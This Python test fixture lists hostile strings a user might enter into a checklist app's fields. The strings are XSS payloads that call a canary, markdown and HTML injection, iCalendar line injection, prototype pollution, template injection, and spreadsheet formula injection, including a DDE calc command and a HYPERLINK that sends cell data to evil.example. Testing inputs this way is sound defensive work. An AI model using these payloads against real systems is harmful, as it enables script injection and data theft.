"""Hostile text a visitor might type, paste or import into a checklist field.

Shared by the host-only export checks (``tests/hostile/test_exports.py``) and
usable by browser tests: every string that would run script if it ever became
live markup calls ``window.__canary()`` (or sets ``window.__pwned``), so a test
can install ``window.__canary`` and fail if it is ever called.

Invisible and unusual characters are written as escapes so a reader can see
what each string holds. Lone surrogates are left out on purpose: a browser form
only ever sends well-formed Unicode, so the JSON-breaking entries use their
escaped spellings and the replacement character instead.
"""

from __future__ import annotations

CANARY = "window.__canary()"
"""What executable entries run; a browser test defines ``window.__canary`` to detect it."""

PWNED = "window.__pwned=1"
"""The alternative marker, for places where a call would be awkward."""

_C = CANARY

SCRIPT_TAGS = [
    f"<script>{_C}</script>",
    f"<SCRIPT>{_C}</SCRIPT>",
    f"<ScRiPt type='text/javascript'>{_C}</sCrIpT>",
    f"<scr<script>ipt>{_C}</scr</script>ipt>",
    f'<script src="data:text/javascript,{_C}"></script>',
    f"</textarea><script>{_C}</script>",
    f"'\"><script>{_C}</script>",
    f"<script\n>{_C}</script\n>",
    f"<svg><script>{PWNED}</script></svg>",
]

EVENT_HANDLERS = [
    f"<img src=x onerror={_C}>",
    f'<IMG SRC="x" ONERROR="{_C}">',
    f"<svg onload={_C}>",
    f"<svg/onload={_C}>",
    f"<body onload={_C}>",
    f"<details open ontoggle={_C}>",
    f'<a href="#" onclick="{_C}">click me</a>',
    f"<input autofocus onfocus={_C}>",
    f'<div style="x" onmouseover="{PWNED}">hover</div>',
]

DANGEROUS_URLS = [
    f"javascript:{_C}",
    f"JaVaScRiPt:{_C}",
    f"java\tscript:{_C}",
    f"java\nscript:{_C}",
    f"java\rscript:{_C}",
    f" \x01javascript:{_C}",
    f"jav&#x09;ascript:{_C}",
    f"&#106;avascript:{_C}",
    f"javascript&colon;{_C}",
    f"vbscript:msgbox({_C})",
    f"data:text/html,<script>{_C}</script>",
    f"DaTa:text/html;base64,PHNjcmlwdD4=#{_C}",
    "file:///etc/passwd",
]

MARKDOWN_INJECTION = [
    f"[click me](javascript:{_C})",
    f"[click me](JAVASCRIPT:{_C} 'title')",
    f"[click me](<javascript:{_C}>)",
    f"[click me](java&#x09;script:{_C})",
    f"![pic](data:image/svg+xml,%3Csvg%20onload%3D{_C}%3E)",
    f"![pic](javascript:{_C})",
    f"[click me][ref]\n\n[ref]: javascript:{_C}",
    f"![pic][img]\n\n[img]: data:image/svg+xml,%3Csvg%20onload%3D{_C}%3E",
    f"<javascript:{_C}>",
    "<https://evil.example/phish>",
    f"<div>\n<script>{_C}</script>\n</div>",
    f'<iframe src="javascript:{_C}"></iframe>',
    f'<a href="javascript:{_C}">plain html link</a>',
    f'<object data="data:text/html,<script>{_C}</script>"></object>',
    f"<!-- a comment --><script>{_C}</script>",
    f"<![CDATA[<script>{_C}</script>]]>",
    f'<form action="javascript:{_C}"><button>go</button></form>',
    f"```html\n<script>{_C}</script>\n```",
    "# Heading injection\n\n---\n\n> quote\n\n1. list\n- item\n\n    indented code\n\n| a | b |\n| - | - |\n| c | d |",
    "**bold** _italic_ `code` ~~strike~~ [[wiki]]",
    "Line one\n===\nLine two\n---",
    "2026. A year that starts a line\n3) and a paren list",
]

ENTITIES = [
    "&lt;script&gt;window.__canary()&lt;/script&gt;",
    "&#x3C;img src=x onerror=window.__canary()&#x3E;",
    "&#60;svg onload=window.__canary()&#62;",
    "&amp; &amp;amp; &nbsp; &copy; &#0; &#xD800;",
    "AT&T R&D <b>&</b>",
]

CONTROL = [
    "null\x00byte",
    "\x00\x00\x00",
    "bell\x07back\x08space\x1bescape\x7fdel",
    "crlf\r\nlf\ncr\rend",
    "   ",
    "\t\n\t",
]

UNICODE = [
    "\u202eevil.exe\u202ctxt.pdf",
    "\u2066isolate\u2069 \u200fRLM \u200eLRM \u202bRLE\u202c \u061cALM",
    "zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffBOM",
    "java\u200bscript:window.__canary()",
    "Emoji \U0001f600 \U0001f44d\U0001f3fd \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "Flags \U0001f1fa\U0001f1f8 \U0001f1ef\U0001f1f5 \U0001f3f3\ufe0f\u200d\U0001f308 keycap 1\ufe0f\u20e3",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034dA\u036b\u0357\u0334\u0362\u0335\u031c\u0330\u0354L\u0368\u0367\u0369\u0358\u0320G\u0311\u0357\u030e\u0305\u035b\u0341\u0334\u033b\u0348\u034d\u0354\u0339O\u0342\u030c\u030c\u0358\u0328\u0335\u0339\u033b\u031d\u0333",
    "العربية עברית 中文 日本語 한국어 ελληνικά кириллица",
    "\U0010ffff \ufffd \ufffe \U0001d54f\U0001d550",
]

ICALENDAR = [
    "line\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nURL:javascript:window.__canary()",
    "END:VCALENDAR\nBEGIN:VCALENDAR",
    "commas, semicolons; backslashes \\ \\n \\, \\; colons: all here",
    'DESCRIPTION;ALTREP="cid:x":x\nATTACH:http://evil.example/x',
    "long line " + "0123456789" * 30,
    "\u00e9" * 80 + "\U0001f600" * 40,
]

JSON_BREAKING = [
    '"}, "format": "irp-checklist", "answers": {"x": "',
    '\\\\\\"\\u0000\\ud800\\udfff\\',
    "'single' \"double\" `back` \u201ccurly\u201d",
    '{"__proto__": {"polluted": true}, "constructor": {"prototype": {}}}',
    "</script><script>window.__canary()</script>",
]

TEMPLATES = [
    "{{ 7*7 }} {% if true %}x{% endif %} {{constructor.constructor('window.__canary()')()}}",
    "${7*7} #{7*7} <%= 7*7 %> ${window.__canary()}",
    "{0} {name} %s %d %(x)s",
]

SPREADSHEET = [
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

HOSTILE_LARGE = (f"<script>{_C}</script>\u202e\U0001f600&lt;[x](javascript:{_C})\r\n" * 2048)[
    : 100 * 1024
]
"""100 KiB of mixed hostile text: far past every field's limit, well under the import limit."""

HOSTILE: list[str] = list(
    dict.fromkeys(
        [
            *SCRIPT_TAGS,
            *EVENT_HANDLERS,
            *DANGEROUS_URLS,
            *MARKDOWN_INJECTION,
            *ENTITIES,
            *CONTROL,
            *UNICODE,
            *ICALENDAR,
            *JSON_BREAKING,
            *TEMPLATES,
            *SPREADSHEET,
            HOSTILE_LARGE,
        ]
    )
)
